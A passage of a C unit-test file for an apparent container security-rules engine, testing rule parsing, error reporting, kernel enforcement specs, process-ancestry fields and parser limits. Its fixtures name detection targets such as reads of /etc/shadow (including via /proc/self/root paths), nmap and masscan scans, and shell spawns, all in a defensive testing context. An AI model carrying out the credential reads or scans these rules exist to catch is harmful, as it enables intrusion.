	{ .sc = "execve", .path = "/bin/cat", .extra = "cat /etc/hostname", .proc = &p_exec_cat,
	  AGE(60) },
	{ .sc = "openat", .path = "/etc/hostname", .proc = &p_exec_cat, AGE(60) },
	{ .sc = "exit_group", .proc = &p_exec_cat, AGE(60) },
	/* docker stop: the entrypoint gets SIGTERM from outside and exits */
	{ .sc = "exit_group", .proc = &p_entry_sh, AGE(90) },
};

static void test_normal_life_quiet(void **state)
{
	const struct rule_set *rs = *state;

	for (size_t i = 0; i < ARRAY_SIZE(normal_life); i++) {
		struct built *b = build(&normal_life[i]);

		for (size_t r = 0; r < rules__count(rs); r++) {
			if (rule_matches(rules__get(rs, r), &b->v))
				fail_msg("normal life %zu (%s %s): rule %s fired", i,
					 normal_life[i].sc,
					 normal_life[i].path ? normal_life[i].path : "",
					 rule_name(rules__get(rs, r)));
		}
		free(b);
	}
}

/* No default rule has an exception on comm: a process chooses its comm. */
static void test_default_no_comm_exceptions(void **state)
{
	FILE *f = fopen(DEFAULT_RULES, "r");
	char line[512];
	int n = 0;

	(void)state;
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		n++;
		if (strstr(line, "comm:") || strstr(line, "runtime_setup"))
			fail_msg("%s:%d: %s", DEFAULT_RULES, n, line);
	}
	fclose(f);
}

/* ---- rules check ---- */

struct want_err {
	int line;
	const char *msg;
};

static const struct want_err want_errors[] = {
	{ 4, "unknown top-level key 'rulez'" },
	{ 7, "unknown field 'syscal'" },
	{ 10, "unknown operator 'startswith'" },
	{ 13, "bad CIDR '10.0.0.0/33'" },
	{ 15, "bad priority" },
	{ 18, "bad action" },
	{ 21, "unknown syscall 'exceve'" },
	{ 23, "unknown category 'filez'" },
	{ 25, "unknown macro 'nope'" },
	{ 27, "unknown list 'nolist'" },
	{ 28, "rule 'no_match' has no match" },
	{ 30, "rule without name" },
	{ 33, "'path' with operator 'glob' is not evaluated in the kernel" },
	{ 36, "'root' is not a number" },
	{ 38, "operator 'glob' does not apply to field 'uid'" },
	{ 40, "unknown key 'prio'" },
	{ 45, "macro 'loop_a' uses itself" },
	{ 48, "duplicate rule name 'good_one' (first defined at " FIX "errors.yaml:46)" },
	{ 51, "'except' blocks are not evaluated in the kernel" },
	{ 56, "bad CIDR '10.0.0.0/x'" },
	{ 56, "bad CIDR '::1/129'" },
	{ 58, "'good_list' is a list: write {list: good_list}" },
	{ 62, "empty value for 'comm' never matches" },
};

static void assert_error(const struct rule_error *e, const char *file, int line,
			 const char *msg)
{
	if (strcmp(e->file, file) || e->line != line || !strstr(e->msg, msg))
		fail_msg("got %s:%d: %s; want %s:%d: ...%s...", e->file, e->line, e->msg, file,
			 line, msg);
}

static void test_check_errors(void **state)
{
	const char *path = FIX "errors.yaml";
	struct rule_errors errs = { 0 };

	(void)state;
	assert_null(rules__load(&path, 1, &errs));
	assert_int_equal(errs.n, ARRAY_SIZE(want_errors));
	for (size_t i = 0; i < errs.n; i++)
		assert_error(&errs.v[i], path, want_errors[i].line, want_errors[i].msg);
	rule_errors_free(&errs);
}

static void test_check_malformed(void **state)
{
	const char *paths[] = { FIX "malformed.yaml", FIX "missing.yaml" };
	struct rule_errors errs = { 0 };

	(void)state;
	assert_null(rules__load(paths, 2, &errs));
	assert_int_equal(errs.n, 2);
	assert_error(&errs.v[0], paths[0], 4, "YAML: did not find expected ',' or ']'");
	assert_error(&errs.v[1], paths[1], 0, "cannot open: No such file or directory");
	rule_errors_free(&errs);
}

static void test_check_duplicate_across_files(void **state)
{
	const char *paths[] = { FIX "dup_a.yaml", FIX "dup_b.yaml" };
	struct rule_errors errs = { 0 };

	(void)state;
	assert_null(rules__load(paths, 2, &errs));
	assert_int_equal(errs.n, 1);
	assert_error(&errs.v[0], paths[1], 4,
		     "duplicate rule name 'same_name' (first defined at " FIX "dup_a.yaml:1)");
	rule_errors_free(&errs);
}

static void check_late_macro(const char *const *paths, size_t n)
{
	struct rule_errors errs = { 0 };
	struct rule_set *rs = load(paths, n, &errs);
	struct ev_spec yes = { .sc = "execve", .path = "/usr/bin/nmap",
		.extra = "nmap -sS 10.0.0.0/8" };
	struct ev_spec no = { .sc = "execve", .path = "/usr/bin/nmap", .extra = "nmap",
		.host = true };
	struct built *b1 = build(&yes), *b2 = build(&no);

	assert_non_null(rs);
	assert_int_equal(rules__count(rs), 1);
	assert_true(rule_matches(rules__get(rs, 0), &b1->v));
	assert_false(rule_matches(rules__get(rs, 0), &b2->v));
	free(b1);
	free(b2);
	rules__free(rs);
	rule_errors_free(&errs);
}

static void test_check_macro_in_later_file(void **state)
{
	const char *files[] = { FIX "split/10-use.yaml", FIX "split/20-define.yaml" };
	const char *dir = FIX "split";

	(void)state;
	check_late_macro(files, 2);
	check_late_macro(&dir, 1);
}

static void test_check_macro_missing(void **state)
{
	const char *path = FIX "split/10-use.yaml";
	struct rule_errors errs = { 0 };

	(void)state;
	assert_null(rules__load(&path, 1, &errs));
	assert_int_equal(errs.n, 2);
	assert_error(&errs.v[0], path, 5, "unknown macro 'web_container'");
	assert_error(&errs.v[1], path, 6, "unknown list 'tools'");
	rule_errors_free(&errs);
}

/* ---- kernel specs of the fixture ---- */

static int setup_kernel(void **state)
{
	const char *path = FIX "kernel.yaml";
	struct rule_errors errs = { 0 };

	*state = load(&path, 1, &errs);
	rule_errors_free(&errs);
	return *state ? 0 : -1;
}

static void test_kernel_path_containers(void **state)
{
	struct kernel_spec ks;
	char why[256];

	assert_int_equal(rules__kernel_spec(find(*state, "kill_etc_changes_in_web"), &ks, why,
					    sizeof(why)), 0);
	assert_int_equal(count_syscalls(&ks), 2);
	assert_true(ks.syscalls[__NR_openat] && ks.syscalls[__NR_unlinkat]);
	assert_int_equal(ks.n_path, 1);
	assert_string_equal(ks.path_prefix[0], "/etc/");
	assert_false(ks.path_exact[0]);
	assert_int_equal(ks.n_containers, 2);
	assert_string_equal(ks.containers[0], "web");
	assert_string_equal(ks.containers[1], "db");

	assert_int_equal(rules__kernel_spec(find(*state, "kill_shadow"), &ks, why,
					    sizeof(why)), 0);
	assert_int_equal(ks.n_path, 1);
	assert_string_equal(ks.path_prefix[0], "/etc/shadow");
	assert_true(ks.path_exact[0]);
}

static void test_kernel_net(void **state)
{
	struct kernel_spec ks;
	char why[256];
	uint8_t fd00[16] = { 0xfd };

	assert_int_equal(rules__kernel_spec(find(*state, "deny_internal_net"), &ks, why,
					    sizeof(why)), 0);
	assert_true(ks.syscalls[__NR_connect]);
	assert_int_equal(ks.n_ports, 2);
	assert_int_equal(ks.ports[0], 22);
	assert_int_equal(ks.ports[1], 3306);
	assert_int_equal(ks.n_nets, 2);
	assert_int_equal(ks.nets[0].family, AF_INET);
	assert_int_equal(ks.nets[0].addr[0], 10);
	assert_int_equal(ks.nets[0].prefix_len, 8);
	assert_int_equal(ks.nets[1].family, AF_INET6);
	assert_memory_equal(ks.nets[1].addr, fd00, 16);
	assert_int_equal(ks.nets[1].prefix_len, 8);
}

static void test_kernel_exe_category(void **state)
{
	struct kernel_spec ks;
	char why[256];

	assert_int_equal(rules__kernel_spec(find(*state, "kill_scanners"), &ks, why,
					    sizeof(why)), 0);
	/* category process AND activity "Process Create": execve, execveat */
	assert_int_equal(count_syscalls(&ks), 2);
	assert_true(ks.syscalls[__NR_execve] && ks.syscalls[__NR_execveat]);
	assert_int_equal(ks.n_exe, 2);
	assert_string_equal(ks.exe[1], "/usr/bin/masscan");
	assert_int_equal(ks.n_containers, 1);
	assert_string_equal(ks.containers[0], "alpine:3.19");
}

static void test_kernel_glob_notsup(void **state)
{
	struct kernel_spec ks;
	char why[256];

	assert_int_equal(rules__kernel_spec(find(*state, "glob_alert"), &ks, why, sizeof(why)),
			 -ENOTSUP);
	assert_non_null(strstr(why, "glob"));
}

static void test_render_unknown(void **state)
{
	struct ev_spec sp = { .sc = "openat", .path = "/etc/hosts", .comm = "vi" };
	struct built *b = build(&sp);
	char buf[256];

	rule_render(find(*state, "glob_alert"), &b->v, buf, sizeof(buf));
	assert_string_equal(buf, "glob_alert medium alert /etc/hosts %unknown 100% vi%");
	free(b);
}

/* ---- the process-table fields, phase, path_arg ---- */

struct want_err;
static void expect_errors(const char *path, const struct want_err *want, size_t n);

static int setup_procfields(void **state)
{
	const char *path = FIX "procfields.yaml";
	struct rule_errors errs = { 0 };

	*state = load(&path, 1, &errs);
	rule_errors_free(&errs);
	return *state ? 0 : -1;
}

static bool fires(const struct rule_set *rs, const char *rule, const struct ev_spec *sp)
{
	struct built *b = build(sp);
	bool hit = rule_matches(find(rs, rule), &b->v);

	free(b);
	return hit;
}

#define YES(rule, ...) assert_true(fires(rs, rule, &(struct ev_spec){ __VA_ARGS__ }))
#define NO(rule, ...) assert_false(fires(rs, rule, &(struct ev_spec){ __VA_ARGS__ }))

static const struct proc p_deep = {
	.self = PI("worker", "/usr/bin/python3.11", 20, 0),
	.anc = { PI("java", "/opt/java/bin/java", 19, EXECS), PI("sh", DASH, 18, 0),
		 PI("tini", "/usr/bin/tini", 17, ENTRY), PI("", "", 16, 0) },
	.n_anc = 4, .tty = true, .tty_name = "pts/7" };
static const struct proc p_orphan = { .self = PI("init", "/sbin/init", 1, ENTRY) };

static void test_proc_fields(void **state)
{
	const struct rule_set *rs = *state;

	/* the parent: anc[0]; absent without a known process or parent */
	YES("parent_java", .sc = "openat", .path = "/x", .proc = &p_deep);
	YES("parent_comm_java", .sc = "openat", .path = "/x", .proc = &p_deep);
	NO("parent_java", .sc = "openat", .path = "/x", .proc = &p_orphan);
	NO("parent_java", .sc = "openat", .path = "/x");
	NO("parent_comm_java", .sc = "openat", .path = "/x", .proc = &p_cat);
	/* ancestors: any of them; ne: none of them (and the field must be there) */
	YES("ancestor_tini", .sc = "openat", .path = "/x", .proc = &p_deep);
	YES("ancestor_glob_tini", .sc = "openat", .path = "/x", .proc = &p_deep);
	NO("ancestor_tini", .sc = "openat", .path = "/x", .proc = &p_cat);
	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_deep);
	YES("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_java_id);
	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_orphan);
	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x");
	/* booleans: false when the process is unknown, for true, false and ne */
	YES("with_tty", .sc = "openat", .path = "/x", .proc = &p_deep);
	NO("without_tty", .sc = "openat", .path = "/x", .proc = &p_deep);
	YES("without_tty", .sc = "openat", .path = "/x", .proc = &p_cat);
	YES("not_tty", .sc = "openat", .path = "/x", .proc = &p_cat);
	NO("with_tty", .sc = "openat", .path = "/x");
	NO("without_tty", .sc = "openat", .path = "/x");
	NO("not_tty", .sc = "openat", .path = "/x");
	YES("is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
	NO("is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_exec_cat);
	YES("is_exec_session", .sc = "openat", .path = "/x", .proc = &p_exec_cat);
	NO("is_exec_session", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
	YES("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_cat);
	NO("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_deep);
	NO("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_orphan);
	YES("parent_is_exec_session", .sc = "openat", .path = "/x", .proc = &p_deep);
	NO("parent_is_exec_session", .sc = "openat", .path = "/x", .proc = &p_cat);
	/* the container's age in whole seconds; absent when unknown */
	YES("young", .sc = "openat", .path = "/x", AGE(29));
	NO("young", .sc = "openat", .path = "/x", AGE(30));
	NO("young", .sc = "openat", .path = "/x");
	YES("old", .sc = "openat", .path = "/x", AGE(31));
	NO("old", .sc = "openat", .path = "/x", AGE(30));
	NO("old", .sc = "openat", .path = "/x");
	/* exe_name: the executed file's name, on any event of a known process */
	YES("exe_name_dash", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
	YES("exe_name_dash", .sc = "execve", .path = "/bin/sh", .extra = "sh", .proc = &p_entry_sh);
	NO("exe_name_dash", .sc = "execve", .path = "/bin/dash", .extra = "dash",
	   .exe = "/usr/local/bin/dash-copy");
	NO("exe_name_dash", .sc = "openat", .path = "/x", .comm = "dash");
	/* program: the executed file's name, and on an exec the name asked
	 * for (path_arg when set) and argv[0] (argv[1] after busybox) */
	YES("program_sh", .sc = "execve", .path = "/bin/sh", .extra = "x", .exe = "/usr/bin/dash");
	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "sh -c id",
	    .exe = "/bin/busybox");
	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "/bin/busybox sh",
	    .exe = "/bin/busybox");
	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .path_arg = "/bin/sh",
	    .extra = "ls", .exe = "/bin/busybox");
	NO("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "busybox",
	   .exe = "/bin/busybox");
	NO("program_sh", .sc = "openat", .path = "/x", .exe = "/bin/busybox", .comm = "sh");
	YES("program_sh", .sc = "openat", .path = "/x", .exe = "/bin/sh");
	YES("program_not_sh", .sc = "execve", .path = "/usr/bin/id", .extra = "id");
	NO("program_not_sh", .sc = "execve", .path = "/usr/bin/id", .extra = "sh");
	NO("program_not_sh", .sc = "openat", .path = "/x"); /* no exe known */
	/* path_arg: as spelled; the path itself when the kernel kept it */
	YES("spelled_via_proc_self", .sc = "openat", .path = "/etc/shadow",
	    .path_arg = "/proc/self/root/etc/shadow");
	YES("spelled_via_proc_self", .sc = "openat", .path = "/proc/self/status");
	NO("spelled_via_proc_self", .sc = "openat", .path = "/etc/shadow",
	   .path_arg = "/etc/../etc/shadow");
	NO("spelled_via_proc_self", .sc = "kill", .a = { 1, 9 });
}

/* A rule without phase judges the workload only; phase: init, both, ne. */
static void test_phase(void **state)
{
	const struct rule_set *rs = *state;
	const char *const rules[] = { "no_phase", "phase_init", "phase_both", "phase_not_init",
				      "phase_in_macro" };
	const bool on_init[] = { false, true, true, false, true };
	const bool on_work[] = { true, false, true, true, false };
	struct kernel_spec ks;
	char why[256];

	for (size_t i = 0; i < ARRAY_SIZE(rules); i++) {
		struct ev_spec init = { .sc = "mknodat", .path = "/dev/null", .init = true };
		struct ev_spec work = { .sc = "mknodat", .path = "/dev/null" };

		if (fires(rs, rules[i], &init) != on_init[i] ||
		    fires(rs, rules[i], &work) != on_work[i])
			fail_msg("%s: init %d workload %d", rules[i], fires(rs, rules[i], &init),
				 fires(rs, rules[i], &work));
	}
	/* kill/deny rules with phase workload (or ne init) are the kernel's */
	assert_int_equal(rules__kernel_spec(find(rs, "kill_workload_bpf"), &ks, why,
					    sizeof(why)), 0);
	assert_true(ks.syscalls[__NR_bpf]);
	assert_int_equal(count_syscalls(&ks), 1);
	assert_int_equal(rules__kernel_spec(find(rs, "deny_not_init"), &ks, why, sizeof(why)), 0);
	assert_int_equal(ks.n_ports, 1);
}

static void test_render_proc(void **state)
{
	const struct rule_set *rs = *state;
	struct ev_spec sp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id",
		.path_arg = "/proc/self/fd/3", .proc = &p_deep, .init = true, AGE(12) };
	struct ev_spec bare = { .sc = "execve", .path = "/bin/sh", .extra = "sh" };
	struct built *b = build(&sp);
	char buf[512];

	rule_render(find(rs, "render_all"), &b->v, buf, sizeof(buf));
	/* program: the file's name, the name asked ("3"), argv[0]; the
	 * fourth ancestor has no exe nor comm: left out */
	assert_string_equal(buf, "init|/usr/bin/python3.11|python3.11|python3.11 3 sh|"
				 "/opt/java/bin/java|java|19|"
				 "/opt/java/bin/java /usr/bin/dash /usr/bin/tini|java sh tini|pts/7|"
				 "false|false|false|true|12.250|/proc/self/fd/3");
	free(b);
	/* nothing known: empty, never stale */
	b = build(&bare);
	rule_render(find(rs, "render_all"), &b->v, buf, sizeof(buf));
	assert_string_equal(buf, "workload|/bin/sh|sh|sh sh sh||||||||||||/bin/sh");
	free(b);
}

static void test_check_proc_fields(void **state)
{
	static const struct want_err want[] = {
		{ 3, "'yes' is not a boolean for field 'tty' (true or false)" },
		{ 5, "'1' is not a boolean for field 'entrypoint'" },
		{ 7, "operator 'prefix' does not apply to field 'exec_session'" },
		{ 9, "operator 'in' does not apply to field 'tty'" },
		{ 11, "unknown phase 'setup' (init or workload)" },
		{ 13, "operator 'glob' does not apply to field 'phase'" },
		{ 15, "-1 out of range for field 'container_age'" },
		{ 17, "rule 'kill_parent': action kill needs a match the kernel can evaluate: "
		      "'parent_exe' is known only in user space" },
		{ 20, "'tty' is known only in user space" },
		{ 23, "phase init: the kernel never kills or denies in the runtime's set-up" },
		{ 26, "phase init: the kernel never kills" },
		{ 29, "'container_age' is known only in user space" },
		{ 32, "'program' is known only in user space" },
	};

	(void)state;
	expect_errors(FIX "procfields_bad.yaml", want, ARRAY_SIZE(want));
}

/* ---- cli ---- */

static int run_quiet(int argc, char **argv)
{
	int out = dup(1), err = dup(2), null = open("/dev/null", O_WRONLY), rc;

	fflush(stdout);
	fflush(stderr);
	dup2(null, 1);
	dup2(null, 2);
	rc = cmd_rules(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(out, 1);
	dup2(err, 2);
	close(out);
	close(err);
	close(null);
	return rc;
}

static void test_cli(void **state)
{
	char *ok[] = { "rules", "check", DEFAULT_RULES, FIX "split" };
	char *bad[] = { "rules", "check", FIX "errors.yaml" };
	char *list[] = { "rules", "list", "--rules", DEFAULT_RULES };
	char *none[] = { "rules", "list", "--no-default-rules" };
	char *usage[] = { "rules", "frobnicate" };

	(void)state;
	assert_int_equal(run_quiet(4, ok), 0);
	assert_int_equal(run_quiet(3, bad), 1);
	assert_int_equal(run_quiet(4, list), 0);
	assert_int_equal(run_quiet(3, none), 0);
	assert_int_equal(run_quiet(2, usage), 2);
	assert_int_equal(run_quiet(2, (char *[]){ "rules", "check" }), 2);
}

static size_t count_rules(const char *path)
{
	struct rule_errors errs = {};
	struct rule_set *rs = rules__load(&path, 1, &errs);
	size_t n = rs ? rules__count(rs) : 0;

	rules__free(rs);
	rule_errors_free(&errs);
	return n;
}

static void test_default_path(void **state)
{
	const char *p;

	(void)state;
	setenv("CACTUS_RULES_DIR", "/opt/cactus-rules", 1);
	assert_string_equal(rules_default_path(), "/opt/cactus-rules/default.yaml");
	unsetenv("CACTUS_RULES_DIR");
	/* beside the binary, else /usr/share/cactus, else the built-in copy:
	 * whichever it is, it loads */
	p = rules_default_path();
	assert_non_null(p);
	assert_true(count_rules(p) >= 25);
}

/* The built-in copy is rules/default.yaml, byte for byte in effect. */
static void test_builtin_rules(void **state)
{
	const char *p = rules_builtin_path();

	(void)state;
	assert_non_null(p);
	assert_int_equal(count_rules(p), count_rules("rules/default.yaml"));
}

/* ---- new errors: empty file, ranges, signals, duplicate keys ---- */

/* Loads @path, which must fail with exactly @n errors, each as wanted. */
static void expect_errors(const char *path, const struct want_err *want, size_t n)
{
	struct rule_errors errs = { 0 };

	assert_null(rules__load(&path, 1, &errs));
	for (size_t i = 0; i < errs.n && i < n; i++)
		assert_error(&errs.v[i], path, want[i].line, want[i].msg);
	if (errs.n != n)
		fail_msg("%s: %zu errors, want %zu (first: %s)", path, errs.n, n,
			 errs.n ? errs.v[0].msg : "-");
	rule_errors_free(&errs);
}

static void test_check_empty(void **state)
{
	static const struct want_err empty[] = { { 1, "no rules, lists or macros in the file" } };
	static const struct want_err nofiles[] = {
		{ 0, "no rule files (*.yaml, *.yml) in the directory" },
	};
	const char *both[] = { FIX "empty.yaml", FIX "split/20-define.yaml" };
	struct rule_errors errs = { 0 };

	(void)state;
	expect_errors(FIX "empty.yaml", empty, 1);
	expect_errors(FIX "nofiles", nofiles, 1);
	/* beside a good file it is still an error */
	assert_null(rules__load(both, 2, &errs));
	assert_int_equal(errs.n, 1);
	rule_errors_free(&errs);
}

static void test_check_ranges(void **state)
{
	static const struct want_err want[] = {
		{ 3, "-1 out of range for field 'port' (0..65535)" },
		{ 5, "70000 out of range for field 'port' (0..65535)" },
		{ 7, "99 out of range for field 'signal_nr' (0..64)" },
		{ 9, "-5 out of range for field 'uid' (0..4294967295)" },
		{ 11, "4294967296 out of range for field 'gid'" },
		{ 13, "5000000 out of range for field 'pid'" },
		{ 15, "0200000 out of range for field 'mode'" },
	};

	(void)state;
	expect_errors(FIX "ranges.yaml", want, ARRAY_SIZE(want));
}

static void test_check_signals(void **state)
{
	static const struct want_err want[] = {
		{ 2, "unknown signal 'SIGFOO'" },
		{ 4, "unknown signal '65'" },
		{ 6, "unknown signal 'SIG'" },
	};

	(void)state;
	expect_errors(FIX "signals_bad.yaml", want, ARRAY_SIZE(want));
}

/* kill(28, @sig) against the rules of signals.yaml, by name. */
static bool sig_fires(const struct rule_set *rs, const char *rule, int sig)
{
	struct ev_spec sp = { .sc = "kill", .a = { 28, (uint64_t)sig } };
	struct built *b = build(&sp);
	bool hit = rule_matches(find(rs, rule), &b->v);

	free(b);
	return hit;
}

static void test_signal_forms_match(void **state)
{
	const char *path = FIX "signals.yaml";
	struct rule_errors errs = { 0 };
	struct rule_set *rs = load(&path, 1, &errs);

	(void)state;
	assert_non_null(rs);
	/* SIGTERM, term and 15 are one signal */
	assert_true(sig_fires(rs, "sig_full_name", 15));
	assert_true(sig_fires(rs, "sig_bare_name", 15));
	assert_true(sig_fires(rs, "sig_number", 15));
	assert_false(sig_fires(rs, "sig_number", 9));
	assert_false(sig_fires(rs, "sig_bare_name", 14));
	assert_true(sig_fires(rs, "sig_realtime", 34));
	assert_false(sig_fires(rs, "sig_realtime", 35));
	assert_true(sig_fires(rs, "sig_not_kill", 15));
	assert_false(sig_fires(rs, "sig_not_kill", 9));
	assert_false(sig_fires(rs, "sig_not_kill", 19));
	assert_true(sig_fires(rs, "sig_prefix_as_written", 40));
	assert_false(sig_fires(rs, "sig_prefix_as_written", 15));
	rules__free(rs);
	rule_errors_free(&errs);
}

static void test_check_duplicate_keys(void **state)
{
	static const struct want_err want[] = {
		{ 5, "duplicate key 'match' (first at line 3)" },
		{ 10, "duplicate key 'filename' (first at line 9)" },
		{ 13, "duplicate key 'prefix' (first at line 13)" },
		{ 16, "duplicate key 'items' (first at line 15)" },
	};

	(void)state;
	expect_errors(FIX "dupkeys.yaml", want, ARRAY_SIZE(want));
}

/* ---- scale and limits: generated files ---- */

struct gen {
	char path[64];
	FILE *f;
};

static void gen_open(struct gen *g)
{
	int fd;

	snprintf(g->path, sizeof(g->path), "/tmp/cactus-rules-XXXXXX");
	fd = mkstemp(g->path);
	assert_true(fd >= 0);
	g->f = fdopen(fd, "w");
	assert_non_null(g->f);
}

static const char *gen_close(struct gen *g)
{
	assert_int_equal(fclose(g->f), 0);
	return g->path;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* @n rules over 8 syscalls, each with its own comm, all using one macro
 * and one list (names resolved through the symbol tables). */
static const char *gen_rules(struct gen *g, size_t n)
{
	static const char *const scs[] = { "openat", "execve", "connect", "unlinkat",
					   "kill", "chmod", "mkdir", "setuid" };

	gen_open(g);
	fputs("- list: shells\n  items: [sh, bash]\n"
	      "- macro: in_c\n  match: {container_id: {prefix: \"\"}}\n", g->f);
	for (size_t i = 0; i < n; i++)
		fprintf(g->f, "- rule: r%zu\n  match:\n    syscall: %s\n    comm: c%zu\n"
			"    exe: {list: shells}\n    macro: in_c\n", i, scs[i % 8], i);
	return gen_close(g);
}

/* 100,000 rules load in linear time: generous bound for a slow CI machine
 * (here: well under a second), the index right, the 16-bit compat view off. */
static void test_scale_100k(void **state)
{
	struct rule_errors errs = { 0 };
	struct gen g;
	const char *path = gen_rules(&g, 100000);
	double t0 = now_s(), dt;
	struct rule_set *rs = load(&path, 1, &errs);
	const uint32_t *cand;
	size_t n;

	(void)state;
	dt = now_s() - t0;
	print_message("100,000 rules loaded in %.2f s\n", dt);
	assert_non_null(rs);
	assert_true(dt < 20);
	assert_int_equal(rules__count(rs), 100000);
	assert_string_equal(rule_name(rules__get(rs, 99999)), "r99999");
	cand = rules__candidate_ids(rs, __NR_kill, &n);
	assert_int_equal(n, 12500);
	assert_int_equal(cand[0], 4);
	assert_int_equal(cand[12499], 99996);
	assert_string_equal(rule_name(rules__get(rs, cand[1])), "r12");
	rules__free(rs);
	rule_errors_free(&errs);
	unlink(path);
}

/* 200,000: loads (the limit is 250,000 items), or says which limit; never
 * "out of memory". */
static void test_scale_200k(void **state)
{
	struct rule_errors errs = { 0 };
	struct gen g;
	const char *path = gen_rules(&g, 200000);
	double t0 = now_s();
	struct rule_set *rs = rules__load(&path, 1, &errs);

	(void)state;
	print_message("200,000 rules: %s in %.2f s\n", rs ? "loaded" : "refused", now_s() - t0);
	if (rs)
		assert_int_equal(rules__count(rs), 200000);
	else
		assert_non_null(strstr(errs.v[0].msg, "limit"));
	for (size_t i = 0; i < errs.n; i++)
		assert_null(strstr(errs.v[i].msg, "out of memory"));
	rules__free(rs);
	rule_errors_free(&errs);
	unlink(path);
}

/* Loads the generated file; exactly one error, at @line, saying @msg. */
static void expect_one(struct gen *g, int line, const char *msg, double max_s)
{
	const char *path = gen_close(g);
	struct rule_errors errs = { 0 };
	double t0 = now_s(), dt;

	assert_null(rules__load(&path, 1, &errs));
	dt = now_s() - t0;
	if (errs.n != 1)
		fail_msg("%zu errors (first: %s), want one: %s", errs.n,
			 errs.n ? errs.v[0].msg : "-", msg);
	assert_error(&errs.v[0], path, line, msg);
	if (dt > max_s)
		fail_msg("%s: %.2f s, want < %.2f s", msg, dt, max_s);
	rule_errors_free(&errs);
	unlink(path);
}

/* 100,000 levels took libyaml 25 s before; refused at level 33 now. */
static void test_limit_depth(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- rule: deep\n  match: ", g.f);
	for (int i = 0; i < 100000; i++)
		fputc('[', g.f);
	for (int i = 0; i < 100000; i++)
		fputc(']', g.f);
	fputc('\n', g.f);
	expect_one(&g, 2, "nested deeper than 32 levels", 1.0);
}

static void test_limit_items(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	for (int i = 0; i <= RULES_MAX_ITEMS; i++)
		fprintf(g.f, "- {list: l%d, items: []}\n", i);
	expect_one(&g, RULES_MAX_ITEMS + 1, "more than 250000 rules, lists and macros", 20);
}

static void test_limit_nodes(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- list: big\n  items:\n", g.f);
	for (int i = 0; i < RULES_MAX_NODES; i++)
		fputs("  - a\n", g.f);
	expect_one(&g, RULES_MAX_NODES - 3, "more than 4000000 YAML nodes", 20);
}

static void test_limit_list_items(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- list: big\n  items: [", g.f);
	for (int i = 0; i <= RULES_MAX_LIST_ITEMS; i++)
		fprintf(g.f, "%sv%d", i ? "," : "", i);
	fputs("]\n", g.f);
	expect_one(&g, 1, "list 'big' has more than 100000 items", 5);
}

static void test_limit_string(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- rule: long\n  match: {path: \"/", g.f);
	for (int i = 0; i < RULES_MAX_STRING; i++)
		fputc('a', g.f);
	fputs("\"}\n", g.f);
	expect_one(&g, 2, "a value longer than 4096 bytes", 1.0);
}

static void test_limit_anchors(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- list: l\n  items:\n", g.f);
	for (int i = 0; i <= RULES_MAX_ANCHORS; i++)
		fprintf(g.f, "  - &a%d v%d\n", i, i);
	expect_one(&g, RULES_MAX_ANCHORS + 3, "more than 1000 YAML anchors or aliases", 1.0);
}

static void test_limit_file_size(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	assert_int_equal(ftruncate(fileno(g.f), RULES_MAX_FILE_BYTES + 1), 0); /* sparse */
	expect_one(&g, 0, "larger than 64 MiB", 1.0);
}

/* m1 uses m0 twice, m2 uses m1 twice...: conditions double each level. */
static void test_limit_conditions(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	fputs("- macro: m0\n  match: {comm: a}\n", g.f);
	for (int i = 1; i <= 12; i++)
		fprintf(g.f, "- macro: m%d\n  match: {macro: [m%d, m%d]}\n", i, i - 1, i - 1);
	expect_one(&g, 24, "more than 1024 conditions in one match", 1.0);
}

static void test_limit_macro_depth(void **state)
{
	struct gen g;

	(void)state;
	gen_open(&g);
	for (int i = 0; i < 40; i++)
		fprintf(g.f, "- macro: m%d\n  match: {macro: m%d}\n", i, i + 1);
	fputs("- macro: m40\n  match: {comm: a}\n", g.f);
	expect_one(&g, 64, "macros nested deeper than 32", 1.0);
}

/* Past RULES_MAX_ERRORS, errors are counted, and the last line says so. */
static void test_limit_errors(void **state)
{
	const char *path;
	struct rule_errors errs = { 0 };
	struct gen g;

	(void)state;
	gen_open(&g);
	for (int i = 0; i < RULES_MAX_ERRORS + 500; i++)
		fprintf(g.f, "- rulez: x%d\n", i);
	path = gen_close(&g);
	assert_null(rules__load(&path, 1, &errs));
	assert_int_equal(errs.n, RULES_MAX_ERRORS + 1);
	assert_error(&errs.v[0], path, 1, "unknown top-level key 'rulez'");
	assert_error(&errs.v[RULES_MAX_ERRORS - 1], path, RULES_MAX_ERRORS,
		     "unknown top-level key 'rulez'");
	assert_error(&errs.v[RULES_MAX_ERRORS], path, 0,
		     "500 more errors not shown (at most 1000 are)");
	rule_errors_free(&errs);
	unlink(path);
}

int main(void)
{
	const struct CMUnitTest default_tests[] = {
		cmocka_unit_test(test_default_loads),
		cmocka_unit_test(test_default_cases),
		cmocka_unit_test(test_candidates_same_alerts),
		cmocka_unit_test(test_candidates_conditions),
		cmocka_unit_test(test_default_coverage),
		cmocka_unit_test(test_default_actions),
